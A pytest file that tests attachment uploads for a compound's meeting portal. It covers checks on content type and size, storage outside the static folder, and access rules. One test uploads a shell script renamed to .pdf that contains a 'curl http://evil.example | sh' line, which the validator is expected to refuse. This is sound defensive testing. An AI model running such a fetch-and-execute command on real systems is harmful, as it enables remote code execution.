"""Files attached to agenda items: checked by content, stored outside static/, served only to those who may see the
meeting, with Content-Disposition."""

from __future__ import annotations

from pathlib import Path

import pytest
import sqlalchemy as sa

from portal.extensions import db
from portal.meetings.models import Attachment, MeetingEvent

PDF = b"%PDF-1.4\n1 0 obj\n<< /Type /Catalog >>\nendobj\ntrailer\n<< /Root 1 0 R >>\n%%EOF\n"
STATIC = Path(__file__).resolve().parents[2] / "static"


@pytest.fixture(autouse=True)
def upload_dir(app, client, monkeypatch, tmp_path) -> Path:
    """Files go to a fresh folder; pages in English so the tests read the msgids."""
    folder = tmp_path / "uploads"
    monkeypatch.setitem(app.config, "PORTAL_UPLOAD_DIR", str(folder))
    client.set_cookie("lang", "en")
    return folder


def _url(meeting, tail=""):
    return f"/c/lvyuan/meetings/{meeting.id}/{tail}"


def _upload(client, meeting, item, data: bytes, name: str):
    from io import BytesIO

    return client.post(
        _url(meeting, f"items/{item.id}/attachments"),
        data={"file": (BytesIO(data), name)},
        content_type="multipart/form-data",
    )


def _attachments():
    return list(db.session.scalars(sa.select(Attachment)))


def _files(folder: Path):
    return [p for p in folder.rglob("*") if p.is_file()] if folder.exists() else []


def test_attendee_attaches_a_pdf_and_members_download_it(client, hall, login, make_meeting, upload_dir):
    member = hall.members[0]
    meeting = make_meeting(signed_in=[member])
    item = meeting.items[0]
    login(member)
    response = _upload(client, meeting, item, PDF, "物业费测算.pdf")
    assert response.status_code == 303 and response.headers["Location"].endswith(f"#item-{item.id}")
    (attachment,) = _attachments()
    assert (attachment.item_id, attachment.filename, attachment.mime, attachment.size) == (
        item.id,
        "物业费测算.pdf",
        "application/pdf",
        len(PDF),
    )
    event = db.session.scalar(sa.select(MeetingEvent).where(MeetingEvent.action == "attached"))
    assert event.actor_id == member.id and "物业费测算.pdf" in event.detail
    (stored,) = _files(upload_dir)
    assert stored.read_bytes() == PDF
    assert not stored.resolve().is_relative_to(STATIC)  # never where the web server serves files by name
    link = _url(meeting, f"attachments/{attachment.id}")
    page = client.get(_url(meeting)).get_data(as_text=True)
    assert f'href="{link}"' in page and "attached a file" in page
    client.post("/logout")
    login(hall.owner)  # a member of the compound, not invited: the record is for members
    download = client.get(link)
    assert download.status_code == 200 and download.data == PDF
    assert download.headers["Content-Type"] == "application/pdf"
    disposition = download.headers["Content-Disposition"]
    assert disposition.startswith("attachment;") and "filename*=UTF-8''" in disposition


def test_manager_may_attach_before_the_meeting_starts(client, hall, login, make_meeting):
    from datetime import timedelta

    meeting = make_meeting(starts_in=timedelta(days=8))
    login(hall.secretary)  # prepares meetings (committee), not signed in, window not open
    assert _upload(client, meeting, meeting.items[1], PDF, "预算.pdf").status_code == 303
    assert len(_attachments()) == 1


def test_script_renamed_to_pdf_is_refused(client, hall, login, make_meeting, upload_dir):
    member = hall.members[0]
    meeting = make_meeting(signed_in=[member])
    login(member)
    response = _upload(client, meeting, meeting.items[0], b"#!/bin/sh\ncurl http://evil.example | sh\n", "纪要.pdf")
    assert response.status_code == 303
    page = client.get(response.headers["Location"]).get_data(as_text=True)
    assert "This file is not a PDF, JPEG or PNG file." in page
    assert _attachments() == [] and _files(upload_dir) == []
    assert db.session.scalar(sa.select(MeetingEvent).where(MeetingEvent.action == "attached")) is None


def test_oversized_file_is_refused(app, client, hall, login, make_meeting, monkeypatch, upload_dir):
    monkeypatch.setitem(app.config, "PORTAL_UPLOAD_LIMIT_MB", 1)
    member = hall.members[0]
    meeting = make_meeting(signed_in=[member])
    login(member)
    big = PDF + b"0" * (1024 * 1024)
    response = _upload(client, meeting, meeting.items[0], big, "扫描件.pdf")
    assert response.status_code == 303
    page = client.get(response.headers["Location"]).get_data(as_text=True)
    assert "The file is larger than the limit of 1 MB." in page
    assert _attachments() == [] and _files(upload_dir) == []


@pytest.mark.parametrize("invited", [False, True])
def test_others_may_not_attach(client, hall, login, make_meeting, upload_dir, invited):
    # Committee members prepare meetings and so may always attach; an owner only once invited and signed in.
    meeting = make_meeting(kind="council", groups=["owner"] if invited else ["committee"], signed_in=[hall.chair])
    login(hall.owner)
    assert _upload(client, meeting, meeting.items[0], PDF, "a.pdf").status_code == 403
    assert _attachments() == [] and _files(upload_dir) == []


def test_member_of_another_compound_gets_404(client, hall, login, make_meeting):
    member = hall.members[0]
    meeting = make_meeting(signed_in=[member])
    login(member)
    _upload(client, meeting, meeting.items[0], PDF, "a.pdf")
    (attachment,) = _attachments()
    client.post("/logout")
    login(hall.stranger)
    assert client.get(_url(meeting, f"attachments/{attachment.id}")).status_code == 404
    assert _upload(client, meeting, meeting.items[0], PDF, "b.pdf").status_code == 404


def test_invitee_only_record_hides_files_from_other_members(client, hall, login, make_meeting):
    member = hall.members[0]
    meeting = make_meeting(visibility="invitees", signed_in=[member])
    login(member)
    _upload(client, meeting, meeting.items[0], PDF, "a.pdf")
    (attachment,) = _attachments()
    link = _url(meeting, f"attachments/{attachment.id}")
    assert client.get(link).status_code == 200
    client.post("/logout")
    login(hall.owner)
    assert client.get(link).status_code == 404


def test_attachment_url_must_match_its_meeting(client, hall, login, make_meeting):
    member = hall.members[0]
    meeting = make_meeting(signed_in=[member])
    other = make_meeting(signed_in=[member])
    login(member)
    _upload(client, meeting, meeting.items[0], PDF, "a.pdf")
    (attachment,) = _attachments()
    assert client.get(_url(other, f"attachments/{attachment.id}")).status_code == 404
    assert client.get(_url(meeting, f"attachments/{attachment.id + 1}")).status_code == 404
